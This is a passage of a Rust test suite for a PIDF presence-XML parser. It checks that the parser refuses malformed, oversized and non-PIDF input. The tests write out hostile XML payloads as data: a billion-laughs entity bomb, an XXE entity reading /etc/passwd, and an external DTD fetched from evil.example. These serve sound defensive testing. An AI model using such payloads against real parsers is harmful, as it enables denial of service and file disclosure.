            r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">{}]>{}"#,
            (1..10).map(|i| format!(r#"<!ENTITY lol{i} "{}">"#, format!("&lol{};", i - 1).repeat(10))).collect::<String>().replace("&lol0;", "&lol;"),
            pidf("<note>&lol9;</note>")
        );
        assert_eq!(parse(&laughs), Err(PidfError::Dtd));
        let xxe = format!(r#"<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>{}"#, pidf("<note>&x;</note>"));
        assert_eq!(parse(&xxe), Err(PidfError::Dtd));
        let param = format!(r#"<!DOCTYPE p [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>{}"#, pidf(""));
        assert_eq!(parse(&param), Err(PidfError::Dtd));
        assert!(matches!(parse(&pidf("<note>&x;</note>")), Err(PidfError::NotXml(_))), "undefined entity");
        assert!(matches!(parse(&pidf(r#"<tuple id="&x;"><status/></tuple>"#)), Err(PidfError::NotXml(_))), "undefined entity in an attribute");
        let deep = pidf(&format!("{}{}", "<x>".repeat(10_000), "</x>".repeat(10_000)));
        assert_eq!(parse_pidf(deep.as_bytes(), &PidfLimits { max_bytes: 1 << 20, ..l }), Err(PidfError::TooDeep { max: 32 }));
        let deep_empty = pidf(&format!("{}<y/>{}", "<x>".repeat(31), "</x>".repeat(31)));
        assert_eq!(parse(&deep_empty), Err(PidfError::TooDeep { max: 32 }), "an empty element counts too");
        assert!(parse(&pidf(&format!("{}<y/>{}", "<x>".repeat(30), "</x>".repeat(30)))).is_ok(), "depth 32 is fine");
        let huge_attr = format!(r#"<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:{}@b"/>"#, "a".repeat(1 << 20));
        assert_eq!(parse(&huge_attr), Err(PidfError::TooLarge { max: 64 * 1024 }));
        let big = PidfLimits { max_bytes: 2 << 20, ..l };
        assert_eq!(parse_pidf(huge_attr.as_bytes(), &big), Err(PidfError::TooLong { what: "attribute", max: 4096 }));
        let huge_text = pidf(&format!("<note>{}</note>", "&amp;".repeat(5000)));
        assert_eq!(parse(&huge_text), Err(PidfError::TooLong { what: "text", max: 4096 }));
        let huge_cdata = pidf(&format!("<note><![CDATA[{}]]></note>", "a".repeat(5000)));
        assert_eq!(parse(&huge_cdata), Err(PidfError::TooLong { what: "text", max: 4096 }));
        let many = pidf(&(0..100).map(|i| format!(r#"<tuple id="t{i}"><status><basic>open</basic></status></tuple>"#)).collect::<String>());
        assert_eq!(parse(&many), Err(PidfError::TooManyTuples { max: 64 }));
    }

    #[test]
    fn malformed_input_is_refused_cleanly() {
        let truncated = r#"<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@b"><tuple id="t"><status><basic>open"#;
        assert!(matches!(parse(truncated), Err(PidfError::NotXml(_))));
        for cut in [1, 20, 60, 75] {
            assert!(parse(&truncated[..cut]).is_err(), "cut at {cut}");
        }
        assert!(matches!(parse(""), Err(PidfError::NotXml(_))));
        assert!(matches!(parse("just text"), Err(PidfError::NotXml(_))));
        assert!(matches!(parse(&pidf("<note>a</tuple>")), Err(PidfError::NotXml(_))), "mismatched end tag");
        assert!(matches!(parse(&format!("{}{}", pidf(""), pidf(""))), Err(PidfError::NotXml(_))), "two roots");
        assert!(matches!(parse(&pidf(r#"<tuple id="a" id="b"><status/></tuple>"#)), Err(PidfError::NotXml(_))), "duplicate attribute");
        assert!(matches!(parse(&pidf("<note>bell\u{7}</note>")), Err(PidfError::NotXml(_))), "control character");
        assert!(matches!(parse(&pidf("<note>&#0;</note>")), Err(PidfError::NotXml(_))), "NUL reference");
        assert!(matches!(parse_pidf(&[0xff, 0xfe, b'<'], &limits()), Err(PidfError::NotXml(_))), "not UTF-8");
        let latin1 = b"<presence xmlns=\"urn:ietf:params:xml:ns:pidf\" entity=\"pres:a@b\"><note>caf\xe9</note></presence>";
        assert!(matches!(parse_pidf(latin1, &limits()), Err(PidfError::NotXml(_))), "Latin-1 bytes");
    }

    #[test]
    fn documents_that_are_not_pidf_are_refused() {
        assert_eq!(parse(r#"<presence xmlns="urn:example:not-pidf" entity="pres:a@b"/>"#), Err(PidfError::NotPidf));
        assert_eq!(parse(r#"<presence entity="pres:a@b"/>"#), Err(PidfError::NotPidf), "no namespace");
        assert_eq!(parse(r#"<p:presence entity="pres:a@b"/>"#), Err(PidfError::NotPidf), "unbound prefix");
        assert_eq!(parse(r#"<tuple xmlns="urn:ietf:params:xml:ns:pidf" id="t"/>"#), Err(PidfError::NotPidf), "wrong root");
        assert!(matches!(parse(r#"<presence xmlns="urn:ietf:params:xml:ns:pidf"/>"#), Err(PidfError::Missing(_))));
        assert!(matches!(parse(r#"<presence xmlns="urn:ietf:params:xml:ns:pidf" entity=" "/>"#), Err(PidfError::Missing(_))));
        assert!(matches!(parse(&pidf("<tuple><status/></tuple>")), Err(PidfError::Missing(_))), "tuple without id");
        assert!(matches!(parse(&pidf(r#"<tuple id="t"><contact>sip:a@b</contact></tuple>"#)), Err(PidfError::Missing(_))), "tuple without status");
        assert!(matches!(parse(&pidf(r#"<tuple id="t"/>"#)), Err(PidfError::Missing(_))), "empty tuple");
        let bad_basic = pidf(r#"<tuple id="t"><status><basic>maybe</basic></status></tuple>"#);
        assert!(matches!(parse(&bad_basic), Err(PidfError::Invalid(_))));
        let foreign_tuple = r#"<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:o="urn:other" entity="pres:a@b"><o:tuple/></presence>"#;
        assert_eq!(parse(foreign_tuple).unwrap().tuples, vec![], "a tuple in another namespace is an extension, skipped");
        assert!(PidfError::NotPidf.to_string().contains(NS_PIDF), "errors say what was expected");
    }

    proptest! {
        #[test]
        fn any_note_round_trips(note in "\\PC{0,40}|[\\x00-\\x7f]{0,40}") {
            let mut doc = PresenceDocument::closed(Presentity::Client("c".into()), NOW);
            doc.tuples[0].note = Some(note.clone());
            doc.note = Some(note.clone());
            let xml = to_pidf(&doc, "example.com");
            let back = parse(&xml).unwrap();
            let want = xml_chars(&note).replace("\r\n", "\n").replace('\r', "\n").trim().to_string();
            prop_assert_eq!(&back.notes, &vec![want.clone()]);
            prop_assert_eq!(&back.tuples[0].notes, &vec![want]);
        }

        #[test]
        fn parser_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
            let _ = parse_pidf(&bytes, &limits());
        }

        #[test]
        fn mangled_documents_never_panic(cut in 0usize..2000, flip in 0usize..2000, byte in any::<u8>()) {
            let mut xml = to_pidf(&monitor().document(&Presentity::Queue("support".into())), "example.com").into_bytes();
            let n = xml.len();
            xml[flip % n] = byte;
            xml.truncate(cut % (n + 1));
            let _ = parse_pidf(&xml, &limits());
        }
    }
}
